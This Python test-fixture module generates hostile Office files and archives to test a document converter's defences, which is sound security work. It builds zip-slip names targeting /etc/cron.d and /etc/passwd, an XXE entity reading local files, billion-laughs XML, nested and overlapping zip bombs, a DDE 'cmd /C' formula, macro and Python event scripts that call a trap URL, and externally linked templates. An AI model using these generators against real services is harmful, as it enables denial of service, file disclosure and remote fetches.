"""Office files and archives that want to do harm: ones that fetch, run, unpack without end, climb, or lie.

Knows: ZIP, Office Open XML, OpenDocument, compound files. Must not know: how any of them is read here.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Mapping, Sequence

from hostile_bytes import SCRIPT, cut
from hostile_documents import DOCUMENTS
from hostile_files import Traps

add = DOCUMENTS.add

XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
KIND = "application/vnd.openxmlformats-officedocument."
NAMESPACES = (
    f'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{OFFICE}" '
    'xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
)
Members = Mapping[str, str | bytes]


def package(members: Members | Sequence[tuple[str, str | bytes]]) -> bytes:
    """A ZIP of these members; a name may be there twice."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # two members of one name are on purpose
        for name, content in members.items() if isinstance(members, Mapping) else members:
            archive.writestr(name, content, zipfile.ZIP_STORED if name == "mimetype" else None)
    return out.getvalue()


def relation(identity: str, kind: str, target: str) -> str:
    outside = ' TargetMode="External"' if ":" in target else ""
    return f'<Relationship Id="{identity}" Type="{OFFICE}/{kind}" Target="{target}"{outside}/>'


def relations(*items: str) -> str:
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'{XML}<Relationships xmlns="{space}">{"".join(items)}</Relationships>'


def types(parts: Mapping[str, str]) -> str:
    named = "".join(f'<Override PartName="/{part}" ContentType="{kind}"/>' for part, kind in parts.items())
    return (
        f'{XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
        'ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        f"{named}</Types>"
    )


def docx(body: str = "", links: Sequence[str] = (), more: Members | None = None, start: str = XML) -> dict[str, str | bytes]:
    return {
        "[Content_Types].xml": types({"word/document.xml": KIND + "wordprocessingml.document.main+xml"}),
        "_rels/.rels": relations(relation("r1", "officeDocument", "word/document.xml")),
        "word/document.xml": (
            f"{start}<w:document {NAMESPACES}><w:body><w:p><w:r><w:t>visible</w:t></w:r></w:p>{body}</w:body></w:document>"
        ),
        "word/_rels/document.xml.rels": relations(*links),
        **(more or {}),
    }


def xlsx(cells: str = "", more: Members | None = None) -> dict[str, str | bytes]:
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    return {
        "[Content_Types].xml": types(
            {
                "xl/workbook.xml": KIND + "spreadsheetml.sheet.main+xml",
                "xl/worksheets/sheet1.xml": KIND + "spreadsheetml.worksheet+xml",
            }
        ),
        "_rels/.rels": relations(relation("r1", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": (
            f'{XML}<workbook {space} xmlns:r="{OFFICE}"><sheets><sheet name="One" sheetId="1" r:id="r1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": relations(relation("r1", "worksheet", "worksheets/sheet1.xml")),
        "xl/worksheets/sheet1.xml": (
            f'{XML}<worksheet {space}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>visible</t></is></c>{cells}</row>'
            "</sheetData></worksheet>"
        ),
        **(more or {}),
    }


_SPACES = {"office": "office", "text": "text", "draw": "drawing", "svg": "svg-compatible", "script": "script"}


def odt(body: str = "", scripts: str = "", more: Members | None = None) -> dict[str, str | bytes]:
    spaces = " ".join(f'xmlns:{prefix}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for prefix, name in _SPACES.items())
    names = ("content.xml", *(more or {}))
    entries = "".join(f'<m:file-entry m:full-path="{name}" m:media-type="text/xml"/>' for name in names)
    return {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": (
            f'{XML}<office:document-content {spaces} xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3">{scripts}'
            f"<office:body><office:text><text:p>visible</text:p>{body}</office:text></office:body></office:document-content>"
        ),
        **(more or {}),
        "META-INF/manifest.xml": (
            f'{XML}<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" m:version="1.3"><m:file-entry '
            f'm:full-path="/" m:media-type="application/vnd.oasis.opendocument.text"/>{entries}</m:manifest>'
        ),
    }


def linked_docx(traps: Traps, target: str = "") -> bytes:
    """Linked pictures in both dialects, a template, a chunk of a page, fields that include."""
    url = target or traps.url
    size = '<a:off x="0" y="0"/><a:ext cx="2000000" cy="2000000"/>'
    drawing = (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="2000000" cy="2000000"/><wp:docPr id="1" name="p"/><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" '
        'name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="out"/><a:stretch><a:fillRect/></a:stretch>'
        f'</pic:blipFill><pic:spPr><a:xfrm>{size}</a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData>'
        '</a:graphic></wp:inline></w:drawing></w:r></w:p><w:p><w:r><w:pict><v:shape style="width:200pt;height:200pt">'
        "<v:imagedata "
        f'r:id="out" src="{url}"/></v:shape></w:pict></w:r></w:p>'
    )
    field = f'<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;{url}&quot; \\d"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    field += f'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;{url}&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    chunk = '<w:altChunk r:id="alt"/>'
    links = [relation("out", "image", url), relation("tpl", "attachedTemplate", url), relation("alt", "aFChunk", "chunk.html")]
    links += [relation("sub", "subDocument", url), relation("ole", "oleObject", url), relation("frame", "frame", url)]
    settings = f'{XML}<w:settings {NAMESPACES}><w:attachedTemplate r:id="tpl"/></w:settings>'
    more = {
        "word/chunk.html": f'<img src="{url}"><iframe src="{url}"></iframe>',
        "word/settings.xml": settings,
        "word/_rels/settings.xml.rels": relations(relation("tpl", "attachedTemplate", url)),
    }
    return package(docx(drawing + field + chunk, links, more))


def linked_odt(traps: Traps) -> bytes:
    """Linked pictures and sections, of the web and of this machine, event listeners, scripts in two languages."""
    frames = "".join(
        f'<text:p><draw:frame svg:width="5cm" svg:height="5cm"><draw:image xlink:href="{url}" xlink:type="simple" '
        'xlink:actuate="onLoad"/></draw:frame></text:p>'
        for url in (traps.url, traps.picture.as_uri(), str(traps.picture))
    )
    sections = "".join(
        f'<text:section text:name="s{number}"><text:section-source xlink:href="{url}"/></text:section>'
        for number, url in enumerate((traps.url, traps.words.as_uri()))
    )
    call = "vnd.sun.star.script:EVIL.py$run?language=Python&amp;location=document"
    events = (
        '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
        f'script:event-name="dom:load" xlink:href="{call}" xlink:type="simple"/></office:event-listeners></office:scripts>'
    )
    program = f"import urllib.request\ndef run(*a):\n    urllib.request.urlopen({traps.url!r})\n"
    return package(odt(frames + sections, events, {"Scripts/python/EVIL.py": program, "Basic/script-lc.xml": "<a/>"}))


def linked_xlsx(traps: Traps) -> bytes:
    cells = f'<c r="B1"><f>WEBSERVICE("{traps.url}")</f><v>1</v></c><c r="C1"><f>HYPERLINK("{traps.url}")</f><v>2</v></c>'
    cells += '<c r="D1"><f>cmd|\'/C touch EVIL\'!A0</f><v>3</v></c><c r="E1"><f>[1]One!A1</f><v>4</v></c>'
    link = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    more = {
        "xl/externalLinks/externalLink1.xml": link,
        "xl/externalLinks/_rels/externalLink1.xml.rels": relations(relation("r1", "externalLinkPath", traps.url)),
    }
    return package(xlsx(cells, more))


AUTO = b"Sub AutoOpen()\nShell EVIL "


def with_macros(traps: Traps, kind: str) -> bytes:
    """A project of macros (rubbish that calls itself one), and the type that says so."""
    members = docx(links=[relation("vba", "vbaProject", "vbaProject.bin")]) if kind == "word" else xlsx()
    folder = "word" if kind == "word" else "xl"
    members[f"{folder}/vbaProject.bin"] = compound({"VBA": 2, "PROJECT": 3}) + AUTO + traps.url.encode()
    main = "wordprocessingml.document" if kind == "word" else "spreadsheetml.sheet"
    macro = f"application/vnd.ms-{'word.document' if kind == 'word' else 'excel.sheet'}.macroEnabled.main+xml"
    members["[Content_Types].xml"] = str(members["[Content_Types].xml"]).replace(f"{KIND}{main}.main+xml", macro)
    return package(members)


def compound(names: Mapping[str, int], first: Mapping[int, bytes] | None = None, *, loop: bool = False) -> bytes:
    """A compound file with streams of these names that begin at these sectors; with a `loop` its directory never ends."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHH", header, 26, 3, 0xFFFE, 9)
    struct.pack_into("<III", header, 44, 1, 1, 0)
    struct.pack_into("<109I", header, 76, 0, *[0xFFFFFFFF] * 108)
    table = struct.pack("<128I", 0xFFFFFFFD, 1 if loop else 0xFFFFFFFE, *[0xFFFFFFFE] * 126)
    entries = bytearray()
    for name, start in {"Root Entry": 0xFFFFFFFE, **names}.items():
        one = bytearray(128)
        spelled = name.encode("utf-16-le") + b"\0\0"
        one[: len(spelled)] = spelled
        struct.pack_into("<HB", one, 64, len(spelled), 5 if name == "Root Entry" else 2)
        struct.pack_into("<I", one, 116, start)
        entries += one
    sectors = [table, bytes(entries).ljust(512, b"\0")]
    return bytes(header) + b"".join(sectors + [(first or {}).get(number, b"").ljust(512, b"\0") for number in range(2, 6)])


def lying() -> bytes:
    """A member that says it is ten bytes and is three million."""
    data = bytearray(package(docx(more={"word/media/a.bmp": bytes(3_000_000)})))
    return bytes(data.replace(struct.pack("<I", 3_000_000), struct.pack("<I", 10)))


def nested(levels: int = 12) -> bytes:
    """An archive of ten archives of ten archives ..."""
    inner = package({"a.txt": bytes(1_000_000)})
    for _ in range(levels):
        inner = package({f"{number}.zip": inner for number in range(10)})
    return inner


def overlapping(count: int = 2_100) -> bytes:
    """Many entries of the directory that are all the same member, packed well: megabytes that are terabytes."""
    one = package(docx(more={"word/media/a.bmp": bytes(30_000_000)}))
    end = one.rindex(b"PK\x05\x06")
    start = struct.unpack_from("<I", one, end + 16)[0]
    last = one.rindex(b"PK\x01\x02", start, end)
    listed = one[start:end] + one[last:end] * count
    number = len(one[start:end].split(b"PK\x01\x02")) - 1 + count
    return one[:start] + listed + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, number, number, len(listed), start, 0)


LAUGHS = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi", strict=True)
) + "]>"  # fmt: skip
PARAGRAPH = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
LOCKED = (
    f'{XML}<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><m:file-entry m:full-path="content.xml">'
    "<m:encryption-data/></m:file-entry></m:manifest>"
)
FLAT = (
    b'<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:scripts>'
    b"<EVIL/></office:scripts></office:document>"
)
RTF = b'{\\rtf1{\\object\\objocx{\\*\\objdata 0105}}{\\field{\\*\\fldinst INCLUDEPICTURE "%s" \\\\d}}}'
ARCHIVES = {
    "gzip": b"\x1f\x8b\x08",
    "7z": b"7z\xbc\xaf\x27\x1c",
    "RAR": b"Rar!\x1a\x07\0",
    "xz": b"\xfd7zXZ\0",
    "cabinet": b"MSCF\0\0\0\0",
}
# fmt: off
OPENED = "pdf preview"
ALL = "pdf preview html txt pdfinfo pages docx slide"
SAFE = (b"EVIL", b"evil.example")
add("a.docx", "DOCX: pictures, templates and fields of the web", linked_docx, "200", "pdf", office=True)
add("a.docx", "DOCX: pictures, templates and fields of this machine",
    lambda traps: linked_docx(traps, traps.picture.as_uri()), "200", "png", office=True)
add("a.odt", "ODT: pictures, sections, events and scripts", linked_odt, "200", "png", never=SAFE, office=True)
add("a.xlsx", "XLSX: web queries, data exchange, other workbooks", linked_xlsx, "200", "pdf", never=SAFE, office=True)
add("a.docm", "DOCM: macros", lambda traps: with_macros(traps, "word"), "200", "docx", never=SAFE, office=True)
add("a.xlsm", "XLSM: macros", lambda traps: with_macros(traps, "excel"), "200", "pdf", never=SAFE, office=True)
for name in ("../../../../tmp/evil.xml", "/etc/cron.d/evil.xml", "..\\..\\evil.xml", "C:/evil.xml"):
    add("a.docx", f"DOCX: a member called {name}", lambda name=name: package(docx(more={name: "<a/>"})), "corrupt", OPENED)
add("a.docx", "DOCX: two members of one name", lambda: package([*docx().items(), ("word/document.xml", "<a/>")]), "corrupt",
    "pdf txt")
add("a.docx", "DOCX: a member of 60 MB packed well", lambda: package(docx(more={"word/media/a.bmp": bytes(60_000_000)})),
    "too_large", "pdf preview html")
add("a.docx", "DOCX: a member that lies about its size", lying, "too_large|corrupt", OPENED)
add("a.docx", "DOCX: members that are all the same bytes", overlapping, "too_large|corrupt", OPENED)
add("a.docx", "DOCX: 3,000 members", lambda: package(docx(more={f"word/media/{number}.png": b"" for number in range(3_000)})),
    "too_large", OPENED)
add("a.docx", "DOCX: entities without end", lambda: package(docx(start=LAUGHS, body=PARAGRAPH.format("&i;"))),
    "unsupported", OPENED)
add("a.docx", "DOCX: entities of this machine",
    lambda traps: package(docx(PARAGRAPH.format("&x;"), start=f'<!DOCTYPE d [<!ENTITY x SYSTEM "{traps.words.as_uri()}">]>')),
    "unsupported", "txt pdf")
add("a.docx", "DOCX: elements 100,000 deep", lambda: package(docx(body="<w:p>" * 100_000 + "</w:p>" * 100_000)),
    "corrupt|processing_limit|too_large", "pdf")
add("a.docx", "DOCX: encrypted", compound({"EncryptedPackage": 2, "EncryptionInfo": 3}), "encrypted", ALL)
add("a.docx", "DOCX: cut at half", lambda: cut(package(docx()), 0.5), "corrupt|unsupported", OPENED)
add("a.docx", "DOCX: no document in it", lambda: package({"word/a.xml": "<a/>"}), "corrupt|unsupported", OPENED)
add("a.odt", "ODT: encrypted",
    lambda: package(odt() | {"META-INF/manifest.xml": LOCKED}),
    "encrypted", OPENED)
add("a.doc", "DOC: noise behind the right start", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 50,
    "corrupt|unsupported", ALL)
add("a.doc", "DOC: a directory in a circle", compound({"WordDocument": 2}, {2: b"\xec\xa5\xc1\0" + bytes(20)}, loop=True),
    "corrupt", "pdf", office=True)
add("a.xls", "XLS: an empty shell", compound({"Workbook": 2}, {2: struct.pack("<HH", 0x809, 16) + bytes(20)}), "corrupt|200",
    "pdf", office=True)
add("a.msg", "A mail as a compound file", compound({"__properties_version1.0": 2}), "unsupported", "pdf preview resize")
add("a.fodt", "Flat ODF with a script",
    FLAT,
    "unsupported", "docx resize ocr")
add("a.rtf", "RTF with an object and a linked picture",
    lambda traps: RTF % traps.url.encode(),
    "unsupported", "pdf preview txt resize zip")
add("a.zip", "ZIP of archives of archives", nested, "unsupported|corrupt|too_large", "pdf preview resize txt zip")
add("a.zip", "ZIP with names that climb", lambda: package({"../../evil.html": SCRIPT, "/etc/passwd": "x"}),
    "unsupported|corrupt", "pdf preview resize zip")
add("a.epub", "EPUB with a script", lambda: package({"mimetype": "application/epub+zip", "a.xhtml": SCRIPT}), "unsupported",
    "pdf preview resize")
for kind, start in ARCHIVES.items():
    add(f"a.{kind}", f"An archive: {kind}", start + bytes(300), "unsupported", "pdf preview resize")
